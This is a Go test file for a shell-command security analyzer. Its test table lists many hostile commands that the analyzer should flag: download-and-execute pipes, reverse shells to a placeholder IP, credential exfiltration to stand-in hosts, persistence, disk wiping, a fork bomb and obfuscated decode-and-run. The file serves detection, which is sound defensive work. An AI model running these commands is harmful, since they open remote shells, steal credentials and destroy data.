package shell

import (
	"strings"
	"testing"
)

func worst(t *testing.T, src string) (Severity, []Finding) {
	t.Helper()
	fs, err := Analyze([]byte(src))
	if err != nil {
		t.Fatalf("%q: %v", src, err)
	}
	var s Severity
	for _, f := range fs {
		if f.Severity > s {
			s = f.Severity
		}
	}
	return s, fs
}

func TestRules(t *testing.T) {
	fail := map[string]Category{
		"wget -qO- https://dl.example.net/i | bash":                                          DownloadExec,
		"curl -fsSL https://get.tool.example/x.sh | sudo -E bash -s -- --yes":                DownloadExec,
		"curl https://x.test/a | python3 -":                                                  DownloadExec,
		"bash <(curl -s https://x.test/i.sh)":                                                DownloadExec,
		"source <(curl -s https://x.test/env)":                                               DownloadExec,
		`python -c "$(curl -s https://x.test/p.py)"`:                                         DownloadExec,
		`eval "$(curl -s https://x.test/i)"`:                                                 DownloadExec,
		"curl -o /tmp/i.sh https://x.test/i.sh\nsh /tmp/i.sh":                                DownloadExec,
		"curl -fsSLo helper https://x.test/h && chmod 755 helper && ./helper --install":      DownloadExec,
		`sh -c 'curl -s https://x.test/i | sh'`:                                              DownloadExec,
		"bash <<'EOF'\ncurl -s https://x.test/i | bash\nEOF":                                 DownloadExec,
		"bash -i >& /dev/tcp/203.0.113.7/4444 0>&1":                                          ReverseShell,
		"nc -e /bin/sh 203.0.113.7 4444":                                                     ReverseShell,
		"ncat 203.0.113.7 4444 --sh-exec /bin/bash":                                          ReverseShell,
		"socat tcp:203.0.113.7:4444 exec:/bin/sh,pty,stderr":                                 ReverseShell,
		"rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 203.0.113.7 4444 >/tmp/f": ReverseShell,
		`python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("203.0.113.7",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")'`: ReverseShell,
		// a checksum beside the download does not make running it safe:
		// the sum usually comes from the same place
		"curl -o i.sh https://x.test/i.sh\nsha256sum -c i.sh.sha256\nbash i.sh": DownloadExec,
		"curl -s \"https://t.example/b?h=$(hostname)\"":                         Beacon,
		"cat ~/.ssh/id_rsa": CredentialRead,
		"curl -s -d @- https://webhook.site/x < README.md":                                            CaptureHost,
		"cat ~/.aws/credentials | curl -X POST --data-binary @- https://collect.example.net":          CredentialSend,
		"curl -d @$HOME/.netrc https://collect.example.net":                                           CredentialSend,
		`(crontab -l; echo "*/5 * * * * curl -s https://x.test/b | sh") | crontab -`:                  Persistence,
		`echo 'curl -s https://x.test/b | sh' >> ~/.bashrc`:                                           Persistence,
		"cat key.pub >> ~/.ssh/authorized_keys":                                                       Persistence,
		"cp agent.plist ~/Library/LaunchAgents/ && launchctl load ~/Library/LaunchAgents/agent.plist": Persistence,
		"systemctl enable --now backdoor.service":                                                     Persistence,
		"echo x | sudo tee /etc/cron.d/job":                                                           Persistence,
		"rm -rf /":                                                                                    Destruction,
		"rm -rf ~":                                                                                    Destruction,
		`rm -rf "$HOME"`:                                                                              Destruction,
		`rm -rf "$BUILD_DIR"/`:                                                                        Destruction,
		"rm -rf $TARGET/*":                                                                            Destruction,
		"dd if=/dev/zero of=/dev/sda bs=1M":                                                           Destruction,
		"mkfs.ext4 /dev/sdb1":                                                                         Destruction,
		":(){ :|:& };:":                                                                               Destruction,
		"history -c":                                                                                  DefenceEvasion,
		"unset HISTFILE":                                                                              DefenceEvasion,
		"setenforce 0":                                                                                DefenceEvasion,
		"sudo ufw disable":                                                                            DefenceEvasion,
		"chattr +i /etc/resolv.conf":                                                                  DefenceEvasion,
		`echo "dev ALL=(ALL) NOPASSWD:ALL" >> /etc/sudoers`:                                           Privilege,
		"chmod 4755 /usr/local/bin/helper":                                                            Privilege,
		"chmod u+s ./helper":                                                                          Privilege,
		"chmod -R 777 /":                                                                              Privilege,
		"echo Y3VybCAtcyBodHRwOi8veC50ZXN0L2EgfCBzaA== | base64 -d | sh":                              DecodeExec,
		`eval "$(echo ZWNobyBoaQ== | base64 --decode)"`:                                               DecodeExec,
		"echo 'hs | a/tset.x//:ptth ls- lruc' | rev | sh":                                             DecodeExec,
	}
	for src, want := range fail {
		sev, fs := worst(t, src)
		found := false
		for _, f := range fs {
			found = found || f.Category == want && f.Severity == Fail
		}
		if sev != Fail || !found {
			t.Errorf("%q: want fail %s, got %+v", src, want, fs)
		}
	}
	pass := []string{
		"curl -fsSL https://api.github.com/repos/o/r | jq .tag_name",
		"curl -fsSL https://x.test/t.tgz | tar -xz -C /tmp",
		`rm -rf ./dist node_modules "$TMPDIR/build"`,
		`rm -rf "${BUILD_DIR:?}"/`,
		"set -euo pipefail",
		`echo "curl x | sh"`,
		"echo 'never run: curl https://x.test | bash'",
		"git clone https://github.com/o/r && cd r && make",
		"crontab -l",
		"cat ~/.bashrc",
		"source ~/.bashrc",
		"python3 scripts/fill.py input.pdf",
		"npx prettier@3.3.3 --write \"$FILE\"",
		"chmod +x scripts/run.sh && ./scripts/run.sh",
		"chmod 755 bin/tool",
		"base64 -d cert.b64 > cert.pem",
		"tar czf backup.tgz ./data && curl -T backup.tgz https://uploads.example.com/",
		"ssh-keygen -t ed25519 -f ./deploy_key -N ''",
		"printf '%s\\n' \"$@\"",
		"mkdir -p ~/.config/tool && cp config.toml ~/.config/tool/",
	}
	for _, src := range pass {
		if sev, fs := worst(t, src); sev == Fail {
			t.Errorf("%q: want no fail, got %+v", src, fs)
		}
	}
	warn := map[string]Category{
		"sudo apt-get update":  Sudo,
		"pip install requests": "",
		"curl -fsSLo tool.tgz \"$URL\" && echo \"$SUM  tool.tgz\" | sha256sum -c && tar -xzf tool.tgz": "",
	}
	for src, want := range warn {
		sev, fs := worst(t, src)
		if sev == Fail {
			t.Errorf("%q: want at most warn, got %+v", src, fs)
			continue
		}
		if want != "" {
			found := false
			for _, f := range fs {
				found = found || f.Category == want
			}
			if !found {
				t.Errorf("%q: want warn %s, got %+v", src, want, fs)
			}
		}
	}
}

func TestLineNumbers(t *testing.T) {
	_, fs := worst(t, "#!/bin/sh\nset -e\n\necho start\nwget -qO- https://dl.example.net/i | bash\n")
	if len(fs) != 1 || fs[0].Line != 5 {
		t.Fatalf("findings %+v, want one at line 5", fs)
	}
	// a finding in an sh -c body is at the command that runs the body
	_, fs = worst(t, "echo a\nsh -c 'echo b\ncurl -s https://x.test | sh'\n")
	if len(fs) == 0 || fs[0].Line != 2 {
		t.Fatalf("nested body line: %+v", fs)
	}
}

func TestParseErrorIsReported(t *testing.T) {
	if _, err := Analyze([]byte("if then fi (")); err == nil {
		t.Fatal("a syntax error must be reported")
	}
	if _, err := Analyze([]byte(strings.Repeat("a", MaxProgramBytes+1))); err == nil {
		t.Fatal("over-size program accepted")
	}
}

func FuzzAnalyze(f *testing.F) {
	for _, s := range []string{"curl x | sh", "bash -c 'sh -c \"eval \\\"x\\\"\"'", ":(){ :|:& };:", "cat <<EOF\nx\nEOF", "a=$(b <(c))", "\"()0"} {
		f.Add([]byte(s))
	}
	f.Fuzz(func(t *testing.T, src []byte) {
		fs, _ := Analyze(src)
		for _, x := range fs {
			if x.Line < 0 || x.Severity < Warn || x.Severity > Fail || x.Category == "" {
				t.Fatalf("bad finding %+v", x)
			}
		}
	})
}
